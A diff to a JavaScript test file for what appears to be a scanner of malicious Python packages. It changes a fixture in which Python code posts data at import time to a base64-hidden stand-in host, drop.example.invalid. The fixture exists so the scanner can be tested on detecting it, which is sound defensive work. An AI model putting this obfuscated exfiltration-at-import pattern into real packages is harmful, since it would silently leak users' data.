@@ -458,12 +458,12 @@ test('code hidden in a downloaded image and executed (steganography) is download
   assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.message.includes('images.example.invalid')));
 });
 
-test('an upload to a hidden address at import is critical; a plain request to it, or an upload when called, is not decisive', async () => {
-  const upload = "import base64, requests\nrequests.post(base64.b64decode('aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZC91cA==').decode(), files={'f': open('notes.txt', 'rb')})\n";
+test('an upload to a hidden address at import is critical; a plain request to it, or an upload of no files when called, is not decisive', async () => {
+  const upload = "import base64, requests\nrequests.post(base64.b64decode('aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZC91cA==').decode(), json={'f': 'notes'})\n";
   const { out, score } = await scan({ 'pkg/__init__.py': upload });
   assert.equal(score.verdict, 'malicious', score.reason);
   assert.ok(out.findings.some((f) => f.ruleId === 'py/obfuscated-destination' && /Uploads data to a hidden destination drop\.example\.invalid/.test(f.message)));
-  const { score: get } = await scan({ 'pkg/__init__.py': upload.replace(/requests\.post\((.*)\), files=.*\)\n/, 'requests.get($1))\n') });
+  const { score: get } = await scan({ 'pkg/__init__.py': upload.replace(/requests\.post\((.*)\), json=.*\)\n/, 'requests.get($1))\n') });
   assert.notEqual(get.verdict, 'malicious', get.reason);
   const { score: called } = await scan({ 'pkg/up.py': upload.replace('requests.post', 'def send():\n    requests.post') });
   assert.notEqual(called.verdict, 'malicious', called.reason);
